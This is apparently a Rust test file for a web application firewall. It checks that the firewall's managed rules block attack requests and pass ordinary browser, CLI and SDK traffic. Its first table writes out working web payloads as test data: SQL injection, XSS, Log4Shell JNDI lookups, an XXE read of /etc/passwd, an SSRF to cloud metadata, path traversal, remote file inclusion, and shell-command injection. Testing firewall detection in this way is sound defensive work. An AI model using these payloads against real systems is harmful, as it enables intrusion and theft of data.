//! All managed groups together: attacks that must be found, and the traffic of real clients that must pass.

mod common;

use common::{Sent, all_managed};
use honmaru_firewall::Firewall;

fn rule_of(firewall: &Firewall, request: &str) -> Option<String> {
    Sent::parse(request).inspect(firewall).rule_inside_group
}

#[test]
fn attacks_are_blocked_by_the_rule_named_for_them() {
    let firewall = all_managed();
    let table = [
        ("GET /\nuser-agent:", "NoUserAgent_HEADER"),
        ("GET /\nuser-agent: sqlmap/1.7.2#stable", "UserAgent_BadBots_HEADER"),
        (
            "GET /?url=http://169.254.169.254/latest/meta-data/",
            "EC2MetaDataSSRF_QUERYARGUMENTS",
        ),
        ("GET /?file=../../etc/passwd", "GenericLFI_QUERYARGUMENTS"),
        ("GET /?file=%252e%252e%252fetc%252fpasswd", "GenericLFI_QUERYARGUMENTS"),
        ("GET /static/../../secret", "GenericLFI_URIPATH"),
        ("GET /logs/app.log", "RestrictedExtensions_URIPATH"),
        ("GET /?page=config.ini", "RestrictedExtensions_QUERYARGUMENTS"),
        ("GET /?page=http://198.51.100.7/shell.txt", "GenericRFI_QUERYARGUMENTS"),
        (
            "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E",
            "CrossSiteScripting_QUERYARGUMENTS",
        ),
        (
            "GET /?q=%26lt%3Bscript%26gt%3Balert(1)",
            "CrossSiteScripting_QUERYARGUMENTS",
        ),
        (
            "POST /\ncontent-type: application/json\n\n{\"c\":\"<img src=x onerror=alert(1)>\"}",
            "CrossSiteScripting_BODY",
        ),
        (
            "GET /\ncookie: a=%3Cscript%3Ealert(1)%3C/script%3E",
            "CrossSiteScripting_COOKIE",
        ),
        ("GET /phpmyadmin/index.php", "AdminProtection_URIPATH"),
        ("GET /sqlmanager/", "AdminProtection_URIPATH"),
        ("GET /\nx-api: ${jndi:ldap://example.com/}", "Log4JRCE_HEADER"),
        (
            "GET /?x=$%7B$%7Blower:j%7Dndi:ldap://e.example/a%7D",
            "Log4JRCE_QUERYSTRING",
        ),
        (
            "GET /?x=(java.lang.Runtime).getRuntime().exec(%22whoami%22)",
            "JavaDeserializationRCE_QUERYSTRING",
        ),
        ("PROPFIND /", "PROPFIND_METHOD"),
        ("GET /WEB-INF/web.xml", "ExploitablePaths_URIPATH"),
        ("GET /.git/config", "ExploitablePaths_URIPATH"),
        ("GET /\nhost: localhost:8080", "Host_localhost_HEADER"),
        (
            "POST /\ncontent-type: multipart/form-data; boundary=x\n\n--x\r\nContent-Disposition: form-data; name=\"0\"\r\n\r\n{\"then\":\"$1:__proto__:then\",\"status\":\"resolved_model\"}\r\n--x--",
            "ReactJSRCE_BODY",
        ),
        ("GET /?id=1'%20OR%20'1'='1", "SQLi_QUERYARGUMENTS"),
        (
            "GET /?id=1+UNION+SELECT+user,password+FROM+users--",
            "SQLi_QUERYARGUMENTS",
        ),
        ("GET /?id=1%2527%2520OR%2520%25271%2527=%25271", "SQLi_QUERYARGUMENTS"),
        ("GET /?id=1/**/union/**/select/**/1,2,3", "SQLi_QUERYARGUMENTS"),
        (
            "POST /login\ncontent-type: application/x-www-form-urlencoded\n\nuser=admin'+--+&password=x",
            "SQLiExtendedPatterns_BODY",
        ),
        (
            "POST /rpc\ncontent-type: text/xml\n\n<a b=\"1' OR '1'='1\"/>",
            "SQLi_BODY",
        ),
        (
            "POST /rpc\ncontent-type: text/xml\n\n<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            "GenericLFI_BODY",
        ),
        (
            "POST /login\ncontent-type: application/json\n\n{\"user\":\"a' OR 1=1 -- \",\"password\":\"x\"}",
            "SQLi_BODY",
        ),
        ("GET /\ncookie: id=1'%20or%20'1'='1", "SQLi_COOKIE"),
        ("GET /?user=admin'+--+", "SQLiExtendedPatterns_QUERYARGUMENTS"),
        ("GET /x?y=/proc/version", "LFI_QUERYSTRING"),
        ("GET /?x=%24HOME", "UNIXShellCommandsVariables_QUERYARGUMENTS"),
        ("GET /?x=a;cat%20/home/x", "UNIXShellCommandsVariables_QUERYARGUMENTS"),
        ("GET /?x=127.0.0.1|id", "UNIXShellCommandsVariables_QUERYARGUMENTS"),
        (
            "GET /?x=x||nslookup%20a.example",
            "UNIXShellCommandsVariables_QUERYARGUMENTS",
        ),
        ("GET /?x=x;cmd", "WindowsShellCommands_QUERYARGUMENTS"),
        ("GET /?x=Invoke-Expression%20x", "PowerShellCommands_QUERYARGUMENTS"),
        ("GET /?x=fsockopen(", "PHPHighRiskMethodsVariables_QUERYSTRING"),
        ("GET /?x=$_GET[a]", "PHPHighRiskMethodsVariables_QUERYSTRING"),
        ("GET /?do-reset-wordpress", "WordPressExploitableCommands_QUERYSTRING"),
        ("GET /xmlrpc.php", "WordPressExploitablePaths_URIPATH"),
    ];
    let mut wrong = Vec::new();
    for (request, expected) in table {
        let got = rule_of(&firewall, request);
        if got.as_deref() != Some(expected) {
            wrong.push(format!("{request:?}: {got:?}, not {expected}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn sizes_are_restricted() {
    let firewall = all_managed();
    let long = |len: usize| "a".repeat(len);
    assert_eq!(
        rule_of(&firewall, &format!("GET /?{}", long(2_049))).as_deref(),
        Some("SizeRestrictions_QUERYSTRING")
    );
    assert_eq!(rule_of(&firewall, &format!("GET /?{}", long(2_048))), None);
    assert_eq!(
        rule_of(&firewall, &format!("GET /{}", long(1_024))).as_deref(),
        Some("SizeRestrictions_URIPATH")
    );
    assert_eq!(
        rule_of(&firewall, &format!("GET /\ncookie: a={}", long(10_240))).as_deref(),
        Some("SizeRestrictions_Cookie_HEADER")
    );
    let mut body = Sent::parse("POST /\n\nx");
    body.truncated = true;
    assert_eq!(
        body.inspect(&firewall).rule_inside_group.as_deref(),
        Some("SizeRestrictions_BODY")
    );
}

/// What browsers, command-line tools and SDKs send every day.
const LEGITIMATE: &[&str] = &[
    "GET / \nuser-agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36\naccept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8\naccept-language: en-US,en;q=0.9,de;q=0.8\naccept-encoding: gzip, deflate, br, zstd\nsec-ch-ua: \"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\"\nsec-ch-ua-mobile: ?0\nsec-ch-ua-platform: \"Windows\"\nsec-fetch-site: none\nsec-fetch-mode: navigate\nsec-fetch-user: ?1\nsec-fetch-dest: document\nupgrade-insecure-requests: 1",
    "GET /search?q=how+to+select+the+best+laptop+and+order+it+by+price&page=2&sort=-price\nuser-agent: Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15\nreferer: https://www.example.com/search?q=laptop&page=1\ncookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dBjftJeZ4CVP-mBYl3; _ga=GA1.2.1234567890.1700000000; theme=dark; consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D",
    "GET /products?filter[price][gte]=10&filter[price][lte]=20&fields=id,name,price&include=category",
    "GET /callback?code=4%2F0AeaYSHB_x-Y2&state=xyzABC123&scope=email+profile+https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email&authuser=0&prompt=consent",
    "GET /login?redirect=https%3A%2F%2Fapp.example.com%2Fdashboard%3Ftab%3Doverview",
    "GET /users/O'Brien?name=D'Angelo",
    "GET /blog/2024/05/c-plus-plus-vs-rust-performance-and-safety",
    "GET /api/v1/items?created_after=2024-01-01T00:00:00Z&tags=a,b,c&limit=50&offset=100",
    "GET /assets/app.3f2a9c1b.js?v=1.2.3-beta+build.45",
    "GET /images/photo%20(1).jpg",
    "POST /api/comments\ncontent-type: application/json; charset=utf-8\n\n{\"text\":\"I love rock & roll; it's great - don't you think? 10/10 (would listen again)!\",\"rating\":5,\"tags\":[\"music\",\"fun\"],\"parent\":null}",
    "POST /api/orders\ncontent-type: application/json\n\n{\"items\":[{\"sku\":\"A-100\",\"qty\":2,\"price\":19.99}],\"address\":{\"street\":\"12 O'Connell St.\",\"city\":\"São Paulo\",\"zip\":\"01310-100\"},\"note\":\"Please ring twice, or call +1 (555) 010-9999 and ask for Jane\"}",
    "POST /graphql\ncontent-type: application/json\n\n{\"operationName\":\"GetUser\",\"variables\":{\"id\":\"42\",\"first\":10},\"query\":\"query GetUser($id: ID!, $first: Int = 10, $path: String) {\\n  user(id: $id) {\\n    id\\n    name\\n    posts(first: $first, orderBy: {field: CREATED_AT, direction: DESC}, path: $path) {\\n      edges { node { title body } }\\n    }\\n    ... on Admin @include(if: true) { role }\\n  }\\n}\"}",
    "POST /graphql\ncontent-type: application/json\n\n{\"query\":\"mutation { addReview(input: {stars: 5, text: \\\"Great value, and it's fast\\\"}) { review { id } } }\"}",
    "POST /login\ncontent-type: application/x-www-form-urlencoded\n\nusername=jane.doe%40example.com&password=S3cure%21Pa55-word&remember=on&csrf=aGVsbG8td29ybGQtMTIz",
    "POST /contact\ncontent-type: application/x-www-form-urlencoded\n\nname=Anne-Marie+O%27Neil&message=Hello%2C+I%27d+like+to+know+whether+you+ship+to+France+or+Spain.+My+order+is+%23123456%3B+thanks%21",
    "POST /upload\ncontent-type: multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\n\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photos - summer '24\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW\r\nContent-Disposition: form-data; name=\"file\"; filename=\"IMG_0001 (copy).jpeg\"\r\nContent-Type: image/jpeg\r\n\r\n\u{1}\u{2}JFIF' OR 1=1 -- <script>\r\n------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n",
    "GET /jane/project.git/info/refs?service=git-upload-pack\nuser-agent: git/2.43.0\ngit-protocol: version=2",
    "POST /jane/project.git/git-upload-pack\nuser-agent: git/2.43.0\ncontent-type: application/x-git-upload-pack-request\naccept: application/x-git-upload-pack-result\n\n0014command=ls-refs\n0015agent=git/2.43.00016object-format=sha10001000bunborn\n0014ref-prefix HEAD\n001bref-prefix refs/heads/\n001aref-prefix refs/tags/\n0000",
    "GET /v2/\nuser-agent: docker/26.1.0 go/go1.21.9 git-commit/c8af8eb kernel/6.8.0 os/linux arch/amd64 UpstreamClient(Docker-Client/26.1.0 \\(linux\\))",
    "GET /v2/team/app/manifests/sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08\nuser-agent: docker/26.1.0\naccept: application/vnd.docker.distribution.manifest.v2+json, application/vnd.oci.image.index.v1+json, */*",
    "PATCH /v2/team/app/blobs/uploads/5f3c2f0e-1a2b-4c3d-8e9f-000000000000?_state=REZNMjQ1eUphbWJfLW1hcC1lbmNvZGVkLXN0YXRlLWhlcmU%3D\nuser-agent: docker/26.1.0\ncontent-type: application/octet-stream\n\n\u{1f}\u{8}\u{0}\u{0}' or 1=1 -- \u{3}",
    "PUT /v2/team/app/manifests/latest\nuser-agent: docker/26.1.0\ncontent-type: application/vnd.docker.distribution.manifest.v2+json\n\n{\"schemaVersion\":2,\"mediaType\":\"application/vnd.docker.distribution.manifest.v2+json\",\"config\":{\"mediaType\":\"application/vnd.docker.container.image.v1+json\",\"size\":7023,\"digest\":\"sha256:b5b2b2c507a0944348e0303114d8d93aaaa081732b86451d9bce1f432a537bc7\"},\"layers\":[{\"mediaType\":\"application/vnd.docker.image.rootfs.diff.tar.gzip\",\"size\":32654,\"digest\":\"sha256:e692418e4cbaf90ca69d05a66403747baa33ee08806650b51fab815ad7fc331f\"}]}",
    "GET /lodash/-/lodash-4.17.21.tgz\nuser-agent: npm/10.5.0 node/v20.12.2 linux x64 workspaces/false\nnpm-command: install\npacote-req-type: tarball",
    "GET /@types%2fnode\nuser-agent: npm/10.5.0 node/v20.12.2 linux x64 workspaces/false\naccept: application/vnd.npm.install-v1+json; q=1.0, application/json; q=0.8, */*",
    "POST /-/npm/v1/security/advisories/bulk\nuser-agent: npm/10.5.0\ncontent-type: application/json\n\n{\"lodash\":[\"4.17.21\"],\"express\":[\"4.18.2\"],\"@types/node\":[\"20.0.0\"]}",
    "GET /simple/requests/\nuser-agent: pip/24.0 {\"ci\":null,\"cpu\":\"x86_64\",\"distro\":{\"id\":\"bookworm\",\"libc\":{\"lib\":\"glibc\",\"version\":\"2.36\"},\"name\":\"Debian GNU/Linux\",\"version\":\"12\"},\"implementation\":{\"name\":\"CPython\",\"version\":\"3.11.2\"}}",
    "GET /healthz\nuser-agent: ELB-HealthChecker/2.0",
    "GET /\nuser-agent: curl/8.5.0\naccept: */*",
    "GET /index.html\nuser-agent: Wget/1.21.3",
    "POST /\nuser-agent: aws-cli/2.15.30 md/awscrt#0.19.19 ua/2.0 os/linux#6.8.0 md/arch#x86_64 lang/python#3.11.8\ncontent-type: application/x-amz-json-1.1\nx-amz-target: AmazonEC2ContainerServiceV20141113.ListClusters\nauthorization: AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240101/us-east-1/ecs/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024\n\n{}",
    "POST /hooks/deploy\nuser-agent: GitHub-Hookshot/044aadd\ncontent-type: application/json\nx-hub-signature-256: sha256=757107ea0eb2509fc211221cce984b8a37570b6d7586c22c46f4379c8b043e17\n\n{\"ref\":\"refs/heads/main\",\"before\":\"0000000000000000000000000000000000000000\",\"commits\":[{\"id\":\"abc\",\"message\":\"Fix union of types; select the right one (closes #42)\\n\\nAlso: don't drop tables' headers\",\"author\":{\"name\":\"Jane\",\"email\":\"jane@example.com\"},\"added\":[\"src/lib.rs\"],\"modified\":[\"Cargo.toml\"]}]}",
    "POST /api/v2/spans\nuser-agent: OTel-OTLP-Exporter-Python/1.24.0\ncontent-type: application/json\n\n{\"resourceSpans\":[{\"resource\":{\"attributes\":[{\"key\":\"service.name\",\"value\":{\"stringValue\":\"checkout\"}}]},\"scopeSpans\":[{\"spans\":[{\"traceId\":\"5b8aa5a2d2c872e8321cf37308d69df2\",\"name\":\"GET /cart/{id}\",\"startTimeUnixNano\":\"1700000000000000000\"}]}]}]}",
    "POST /rpc\ncontent-type: text/xml\nuser-agent: Java/17.0.10\n\n<?xml version=\"1.0\" encoding=\"UTF-8\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><m:GetPrice xmlns:m=\"https://www.example.org/prices\"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>",
    "GET /ws\nconnection: Upgrade\nupgrade: websocket\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\nsec-websocket-version: 13",
    "POST /collect?v=2&tid=G-ABC123&gtm=45je45&_p=1700&cid=1.2&ul=en-us&sr=1920x1080&en=page_view&dl=https%3A%2F%2Fexample.com%2F%3Fa%3D1&dt=Home%20%7C%20Example\nuser-agent: Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15",
    "OPTIONS /api/items\norigin: https://app.example.com\naccess-control-request-method: PUT\naccess-control-request-headers: content-type,authorization",
    "DELETE /api/items/6f1ed002-ab5d-4e2f-9c1a-0123456789ab\nif-match: W/\"33a64df5\"",
    "PUT /bucket/key%20with%20spaces.txt?partNumber=2&uploadId=VXBsb2FkIElE\ncontent-type: text/plain\n\nThe quick brown fox jumps over the lazy dog. It's 5 o'clock somewhere, and 2 + 2 = 4.\nSecond line: select a seat; then update your profile.",
    "GET /?text=50%25+off+today+%28only%29&emoji=%F0%9F%98%80&ids=1%2C2%2C3&empty=&flag",
];

#[test]
fn the_traffic_of_real_clients_passes_all_managed_groups() {
    let firewall = all_managed();
    let mut wrong = Vec::new();
    for request in LEGITIMATE {
        let verdict = Sent::parse(request).inspect(&firewall);
        if verdict.decision.name() != "ALLOW" || !verdict.labels.is_empty() {
            wrong.push(format!(
                "{:?}: {}",
                verdict.rule_inside_group,
                request.lines().next().unwrap_or_default()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
